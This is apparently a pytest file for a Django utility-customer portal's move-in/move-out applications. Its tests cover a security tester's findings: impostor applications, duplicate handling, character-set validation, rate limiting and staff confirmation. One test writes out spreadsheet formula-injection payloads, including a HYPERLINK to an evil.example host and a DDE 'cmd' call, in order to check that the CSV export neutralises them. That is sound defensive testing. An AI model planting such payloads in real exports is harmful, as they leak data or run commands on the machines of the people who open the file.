"""The outside tester's findings on 使用開始・使用中止 (/work/attack/findings21.md), each as a
resident or a member of staff would notice it."""

from __future__ import annotations

import csv
import datetime
import io
import re
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command
from django.urls import reverse
from pytest_django.asserts import assertContains

from moving import services
from moving.models import MoveApplication
from tests.factories import (
    ContractLinkFactory,
    CustomerFactory,
    MemberFactory,
    StaffFactory,
    UtilityFactory,
)
from tests.moving.test_applications import apply, url

pytestmark = pytest.mark.django_db

JST = ZoneInfo("Asia/Tokyo")
NOW = datetime.datetime(2027, 3, 1, 10, 0, tzinfo=JST)
ALREADY = "この契約の使用中止は、すでに受け付けています。"


@pytest.fixture(autouse=True)
def _frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.fixture
def kanazawa():
    return UtilityFactory()  # number, name, address and phone identify a contract there


@pytest.fixture
def contract(kanazawa):
    return CustomerFactory(utility=kanazawa, name="山田 花子", phone="0762201234")


def guest_out(contract, **overrides) -> dict:
    data = {
        "customer_number": contract.number,
        "name": contract.name,
        "address": contract.address,
        "phone": "076-220-1234",
        "move_date": "2027-03-20",
        "final_bill_address": "石川県白山市倉光2丁目1",
        "payment": "transfer",
        "contact_phone": "09012345678",
        "email": "hanako@example.jp",
    }
    return {**data, **overrides}


def intruder(contract, **overrides) -> dict:
    """Knows the number (printed on every slip) and nothing else."""
    typed = {"name": "誰か", "address": "x", "phone": "0760000000", "email": "blocker@example.jp"}
    return guest_out(contract, **{**typed, **overrides})


# F1 ---------------------------------------------------------------------------------------


def test_an_unmatched_guest_never_blocks_the_members_move_out(client, kanazawa, contract):
    apply(client, kanazawa, "move_out", intruder(contract, move_date="2027-03-20"))
    apply(client, kanazawa, "move_out", intruder(contract, move_date="2027-03-25"))
    member = MemberFactory(utility=kanazawa)
    ContractLinkFactory(member=member, customer=contract)
    client.force_login(member)
    done = apply(
        client,
        kanazawa,
        "member_move_out",
        {
            "move_date": "2027-03-20",
            "final_bill_address": "石川県白山市倉光2丁目1",
            "payment": "slip",
            "contact_phone": "09012345678",
        },
        contract.number,
    )
    assertContains(done, "お申し込みを受け付けました")
    assert MoveApplication.objects.filter(member=member, matched=True).count() == 1


def test_an_unmatched_guest_never_blocks_the_holder_as_a_guest(client, kanazawa, contract):
    apply(client, kanazawa, "move_out", intruder(contract))
    done = apply(client, kanazawa, "move_out", guest_out(contract, move_date="2027-03-22"))
    assertContains(done, "お申し込みを受け付けました")
    done = apply(client, kanazawa, "move_out", guest_out(contract, move_date="2027-03-23"))
    assertContains(done, ALREADY)  # the holder's own second one is still refused
    assert MoveApplication.objects.filter(matched=True).count() == 1


def test_an_unmatched_guest_gets_the_same_answer_whether_or_not_someone_applied(
    client, kanazawa, contract
):
    apply(client, kanazawa, "move_out", guest_out(contract))  # the holder, matched
    later = apply(client, kanazawa, "move_out", intruder(contract))
    assertContains(later, "お申し込みを受け付けました")
    again = apply(client, kanazawa, "move_out", intruder(contract))  # their own duplicate
    assertContains(again, "の使用中止は、すでに受け付けています。")
    stranger = intruder(contract, customer_number="99999999999999")
    apply(client, kanazawa, "move_out", stranger)
    again = apply(client, kanazawa, "move_out", stranger)
    assertContains(again, "の使用中止は、すでに受け付けています。")


def test_staff_see_the_unmatched_application_flagged(admin_client, kanazawa, contract):
    apply(admin_client, kanazawa, "move_out", intruder(contract))
    application = MoveApplication.objects.get()
    assert not application.matched
    listing = admin_client.get(reverse("admin:moving_moveapplication_changelist"))
    assertContains(listing, "不一致(要確認)")
    page = admin_client.get(reverse("admin:moving_moveapplication_change", args=[application.pk]))
    assertContains(page, "一致しない項目があります(要確認)")


# F2 ---------------------------------------------------------------------------------------


def move_in(**overrides) -> dict:
    data = {
        "address": "金沢市本町2丁目15-1",
        "building": "ハイツ見本 203号室",
        "move_date": "2027-03-05",
        "name": "山田 次郎",
        "name_kana": "ヤマダ ジロウ",
        "phone": "09011112222",
        "email": "jiro@example.jp",
        "payment": "slip",
    }
    return {**data, **overrides}


def exported(tmp_path, *args) -> list[list[str]]:
    out = tmp_path / "moves.csv"
    call_command("export_moves", "--encoding", "utf-8", "-o", str(out), *args)
    return list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"))))


def test_formulas_reach_the_cis_file_as_text(client, kanazawa, contract, tmp_path):
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    apply(
        client,
        kanazawa,
        "move_in",
        move_in(address=hyperlink, building="+cmd|' /C calc'!A0", name="@SUM(1+1)"),
    )
    apply(
        client,
        kanazawa,
        "move_out",
        intruder(contract, name='=HYPERLINK("http://evil/","x")', final_bill_address="-2+3"),
    )
    header, *lines = exported(tmp_path)
    moved_in, moved_out = (dict(zip(header, line, strict=True)) for line in lines)
    assert moved_in["address"] == "'" + hyperlink
    assert moved_in["building"] == "'+cmd|' /C calc'!A0"
    assert moved_in["name"] == "'@SUM(1+1)"
    assert moved_out["name"] == '\'=HYPERLINK("http://evil/","x")'
    assert moved_out["final_bill_address"] == "'-2+3"
    assert moved_out["phone"] == "09012345678"  # digits only: never a formula, kept as is
    assert moved_out["matched"] == "no"


# F3 ---------------------------------------------------------------------------------------


def test_a_character_the_cis_cannot_read_is_refused_beside_the_field(client, kanazawa, contract):
    response = client.post(url(kanazawa, "move_in"), move_in(name="髙橋 𠮷男"))
    assertContains(response, "「𠮷」は使えません。「吉」などに置き換えてください。")
    response = client.post(
        url(kanazawa, "move_out"), guest_out(contract, final_bill_address="札幌市𩸽町1")
    )
    assertContains(response, "「𩸽」は使えません。「ほっけ」などに置き換えてください。")
    response = client.post(url(kanazawa, "move_in"), move_in(building="ハイツ😀"))
    assertContains(response, "「😀」は使えません。よく似た字やかなに置き換えてください。")
    assert not MoveApplication.objects.exists()
    apply(client, kanazawa, "move_in", move_in(name="髙橋 吉男"))  # 髙 is in cp932
    assert MoveApplication.objects.get().name == "髙橋 吉男"


def test_one_bad_row_never_stops_the_nights_file(client, kanazawa, contract, tmp_path, capsys):
    apply(client, kanazawa, "move_in", move_in())
    good = MoveApplication.objects.get()
    bad = MoveApplication.objects.create(
        **{
            **{f: getattr(good, f) for f in ("utility", "kind", "move_date", "phone", "email")},
            "reference": "20270301-000001",
            "name": "髙橋 𠮷男",  # saved before input refused it
            "payment": "slip",
        }
    )
    out = tmp_path / "moves.csv"
    call_command("export_moves", "-o", str(out))
    body = out.read_bytes().decode("cp932")
    assert good.reference in body and bad.reference not in body
    assert "書き出していません(管理画面で直してから" in capsys.readouterr().err
    with pytest.raises(CommandError, match="に書き出せません"):
        call_command("export_moves", "-o", str(tmp_path / "missing" / "moves.csv"))


# F4 ---------------------------------------------------------------------------------------


def test_a_second_identical_move_in_is_refused(client, kanazawa, mailoutbox):
    apply(client, kanazawa, "move_in", move_in())
    again = apply(client, kanazawa, "move_in", move_in(email="other@example.jp"))
    assertContains(
        again, "2027年3月5日からの、このご使用場所の使用開始は、すでに受け付けています。"
    )
    assert MoveApplication.objects.count() == 1 and len(mailoutbox) == 1
    apply(client, kanazawa, "move_in", move_in(building="ハイツ見本 204号室"))
    assert MoveApplication.objects.count() == 2


# F5 and F6 --------------------------------------------------------------------------------


def staff_for(client, utility):
    staff = StaffFactory(utility=utility)
    codenames = ("view_moveapplication", "change_moveapplication")
    staff.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    client.force_login(staff)
    return staff


def handling(application, status: str, note: str = "", **extra) -> dict:
    typed = {name: getattr(application, name) for name in services.CORRECTABLE}
    return {**typed, "status": status, "staff_note": note, **extra}


def change_url(application) -> str:
    return reverse("admin:moving_moveapplication_change", args=[application.pk])


def test_completing_an_unmatched_move_out_needs_a_tick_and_tells_the_member(
    client, kanazawa, contract, mailoutbox
):
    member = MemberFactory(utility=kanazawa, email="hanako@example.jp")
    link = ContractLinkFactory(member=member, customer=contract)
    apply(client, kanazawa, "move_out", intruder(contract))
    application = MoveApplication.objects.get()
    staff_for(client, kanazawa)
    page = client.post(change_url(application), handling(application, "done"))
    assertContains(page, "要確認のお申し込みです。")
    link.refresh_from_db()
    application.refresh_from_db()
    assert link.ended_on is None and application.status == "received"
    sent = len(mailoutbox)
    client.post(change_url(application), handling(application, "done", confirmed="on"))
    link.refresh_from_db()
    assert link.ended_on == datetime.date(2027, 3, 20)
    told = [mail for mail in mailoutbox[sent:] if mail.to == ["hanako@example.jp"]]
    assert len(told) == 1
    assert "ご契約の使用中止の手続きが完了しました" in told[0].subject
    assert "2027年3月20日をもって使用を中止し" in told[0].body


def test_a_move_out_after_a_completed_one(client, kanazawa, contract, mailoutbox):
    member = MemberFactory(utility=kanazawa)
    ContractLinkFactory(member=member, customer=contract)
    apply(client, kanazawa, "move_out", guest_out(contract, move_date="2027-03-10"))
    first = MoveApplication.objects.get()
    staff_for(client, kanazawa)
    client.post(change_url(first), handling(first, "done"))  # matched: no tick needed
    first.refresh_from_db()
    assert first.status == "done"
    client.logout()
    # A guest: the same answer, flagged for staff, who must tick to complete it.
    done = apply(client, kanazawa, "move_out", guest_out(contract, move_date="2027-03-21"))
    assertContains(done, "お申し込みを受け付けました")
    second = MoveApplication.objects.exclude(pk=first.pk).get()
    staff_for(client, kanazawa)
    listing = client.get(reverse("admin:moving_moveapplication_changelist"))
    assertContains(listing, "中止済み(要確認)", count=1)
    page = client.get(change_url(second))
    assertContains(page, "この契約は、すでに使用中止が完了しています(要確認)")
    page = client.post(change_url(second), handling(second, "done"))
    assertContains(page, "要確認のお申し込みです。")
    # A member whose link ended by it: refused.
    client.force_login(member)
    response = client.post(
        url(kanazawa, "member_move_out", contract.number),
        {
            "move_date": "2027-03-25",
            "final_bill_address": "石川県白山市倉光2丁目1",
            "payment": "slip",
            "contact_phone": "09012345678",
        },
    )
    assert response.status_code == 200
    assert MoveApplication.objects.count() == 2


# F7, F8, F9 -------------------------------------------------------------------------------


def test_a_completed_applications_note_cannot_be_changed(client, kanazawa, contract, mailoutbox):
    apply(client, kanazawa, "move_out", guest_out(contract))
    application = MoveApplication.objects.get()
    staff_for(client, kanazawa)
    client.post(change_url(application), handling(application, "done", "メモA"))
    sent = len(mailoutbox)
    page = client.post(change_url(application), handling(application, "done", "もう一度"))
    assertContains(page, "完了したお申し込みの連絡事項は変えられません。")
    application.refresh_from_db()
    assert application.staff_note == "メモA" and len(mailoutbox) == sent


def test_the_two_phones_of_a_guest_move_out_are_told_apart(client, kanazawa):
    page = client.get(url(kanazawa, "move_out")).content.decode()
    labels = re.findall(r"<label[^>]*>(.*?)</label>", page, re.S)
    phones = [label for label in labels if "電話番号" in label]
    assert "ご契約の連絡先電話番号" in phones[0]
    assert "お引越し後の連絡先電話番号" in phones[1]
    assert f"{kanazawa.office_name}に届け出た電話番号です。" in page


def test_an_end_day_still_ahead_is_worded_as_ahead(client, kanazawa, contract):
    member = MemberFactory(utility=kanazawa)
    ContractLinkFactory(member=member, customer=contract, ended_on=datetime.date(2027, 3, 20))
    client.force_login(member)
    assertContains(client.get(url(kanazawa, "index")), "に使用を中止する予定です")
    response = client.post(
        url(kanazawa, "member_move_out", contract.number),
        {
            "move_date": "2027-03-25",
            "final_bill_address": "石川県白山市倉光2丁目1",
            "payment": "slip",
            "contact_phone": "09012345678",
        },
    )
    assertContains(response, "この契約は2027年3月20日に使用を中止する予定です。")


# F10 --------------------------------------------------------------------------------------


def test_a_full_width_date_is_read_and_the_help_names_the_closed_days(client, kanazawa):
    page = client.get(url(kanazawa, "move_in"))
    assertContains(page, "ただし、12月29日〜1月3日(年末年始)は受け付けていません。")
    apply(client, kanazawa, "move_in", move_in(move_date="２０２７－０３－０５"))
    assert MoveApplication.objects.get().move_date == datetime.date(2027, 3, 5)


def test_refused_posts_do_not_count_against_the_typed_address(client, kanazawa, settings):
    settings.PORTAL_MOVING_RATE_PER_EMAIL = "2/h"
    for n in range(4):
        response = client.post(
            url(kanazawa, "move_in"), move_in(phone="12345"), REMOTE_ADDR=f"10.0.0.{n}"
        )
        assert response.status_code == 200
    for _n in range(2):
        response = client.post(url(kanazawa, "move_in"), move_in(), REMOTE_ADDR="10.0.1.1")
        assert response.status_code == 302
    response = client.post(url(kanazawa, "move_in"), move_in(), REMOTE_ADDR="10.0.1.2")
    assert response.status_code == 429
    assertContains(response, url(kanazawa, "index"), status_code=429)
    assertContains(response, "引越しの手続きへ戻る", status_code=429)


def test_a_reversed_closed_range_is_refused(kanazawa):
    from django.core.exceptions import ValidationError

    settings = kanazawa.moving_settings
    settings.closed_dates = "1/3-12/29 逆"
    with pytest.raises(ValidationError) as caught:
        settings.full_clean()
    assert "1行目: 受け付けない期間が長すぎます" in caught.value.messages[0]
    settings.closed_dates = "12/29-1/3 年末年始\n8/13-8/16 お盆"
    settings.full_clean()


def test_a_matched_nayoro_guest_row_carries_the_contracts_name_and_address(
    client, mailoutbox, settings
):
    settings.PORTAL_BASE_URL = "https://portal.example.jp"
    nayoro = UtilityFactory(code_style=True)
    contract = CustomerFactory(
        utility=nayoro, number="20000000004", name_kana="ナヨロ ハナコ", phone="0165421234"
    )
    data = {
        "customer_number": contract.number,
        "name_kana": "ナヨロ ハナコ",
        "phone": "0165421234",
        "move_date": "2027-03-20",
        "final_bill_address": "札幌市中央区北1条西2丁目1-1",
        "payment": "slip",
        "contact_phone": "090-1234-5678",
        "email": "hanako@example.jp",
    }
    apply(client, nayoro, "move_out", data)
    application = MoveApplication.objects.get()
    assert application.name == contract.name and application.address == contract.address
    assert "https://portal.example.jp/" + nayoro.slug + "/moving/status/" in mailoutbox[-1].body
